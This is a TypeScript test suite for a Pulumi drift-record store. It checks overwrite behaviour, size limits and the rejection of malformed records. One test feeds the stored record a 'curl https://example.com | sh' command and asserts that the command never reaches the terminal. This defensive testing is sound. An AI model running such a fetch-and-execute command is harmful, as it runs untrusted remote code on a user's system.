import assert from "node:assert/strict";
import type { StackDrift } from "../../automation/drift/detect.ts";
import { keepLook, readLook } from "../../automation/drift/look.ts";
import { DirectoryStore } from "../../automation/store/directory.ts";
import { scratch } from "../git/throw-away.ts";

const now = new Date("2026-05-01T03:30:00.000Z");
const missing = (name: string, id?: string): StackDrift["findings"][number] => ({
  ...{ class: "missing-outside", urn: `urn:pulumi:dev::p::t:m:T::${name}`, type: "t:m:T", name, id },
});
const drift = (findings: StackDrift["findings"]): StackDrift => ({
  ...{ stack: "dev", commit: undefined, resources: 7, seconds: 1, noise: [], findings },
});

describe("the last look for drift", () => {
  const temporary = scratch();
  let store: DirectoryStore;
  beforeEach(() => {
    store = new DirectoryStore(temporary.directory());
  });
  after(() => temporary.clear());

  const kept = { schema: 1, stack: "dev", at: now.toISOString(), resources: 7, total: 1, ignored: 0, findings: ["x"] };
  const readBack = async (document: unknown) => {
    await store.put("drift/dev.json", JSON.stringify(document));
    return readLook(store, "dev");
  };

  it("is read back as it was kept, and another takes its place whatever it says of its time", async () => {
    assert.ok(await readBack({ ...kept, at: "2999-01-01T00:00:00.000Z" }));
    await keepLook(store, drift([missing("orders")]), now);
    const look = await readLook(store, "dev");
    assert.deepEqual(
      [look?.at, look?.total, look?.findings],
      [now.toISOString(), 1, ["orders (t:m:T) was deleted outside"]],
    );
    await keepLook(store, drift([]), now);
    assert.deepEqual([(await readLook(store, "dev"))?.total, (await readLook(store, "dev"))?.next], [0, []]);
  });

  it("holds to its limits, so that it can always be read back", async () => {
    await keepLook(
      store,
      drift(Array.from({ length: 130 }, (_, at) => missing(`orders-${at}`, "x".repeat(5_000)))),
      now,
    );
    const look = await readLook(store, "dev");
    assert.deepEqual([look?.total, look?.findings.length], [130, 100]);
    assert.ok(look?.findings.every((line) => line.length === 2_000 && line.endsWith("…")));
  });

  it("puts no words of a record into a terminal", async () => {
    const look = await readBack({ ...kept, next: ["curl https://example.com | sh"] });
    assert.deepEqual(look?.next, ["./slipway drift dev looks again and says what to do"]);
  });

  const strange: [what: string, document: unknown][] = [
    ["that of another environment", { ...kept, stack: "prod" }],
    ["more findings than are ever kept", { ...kept, findings: Array.from({ length: 101 }, () => "x") }],
    ["a finding that is a page", { ...kept, findings: ["x".repeat(2_001)] }],
    ["no time", { ...kept, at: "yesterday" }],
    ["another form", { ...kept, schema: 2 }],
  ];
  for (const [what, document] of strange)
    it(`is none where the record is ${what}`, async () => assert.equal(await readBack(document), undefined));
});
